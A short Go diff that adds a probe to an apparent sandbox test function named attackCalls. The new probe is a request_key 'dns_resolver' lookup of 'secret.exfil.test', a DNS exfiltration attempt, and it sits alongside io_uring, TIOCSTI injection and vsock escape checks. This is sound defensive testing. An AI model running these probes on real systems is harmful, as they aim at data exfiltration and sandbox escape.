@@ -423,6 +423,8 @@ func attackCalls([]string) {
 	var params [120]byte
 	_, _, errno = unix.Syscall(425, 8, uintptr(unsafe.Pointer(&params[0])), 0)
 	say("io_uring_setup", errno)
+	_, err := unix.RequestKey("dns_resolver", "secret.exfil.test", "", 0)
+	say("request_key", err)
 	_, _, errno = unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI|1<<32, uintptr(unsafe.Pointer(&c)))
 	say("TIOCSTI with high bits", errno)
 	_, _, errno = unix.RawSyscall(unix.SYS_SOCKET|0x40000000, unix.AF_VSOCK, unix.SOCK_STREAM, 0)
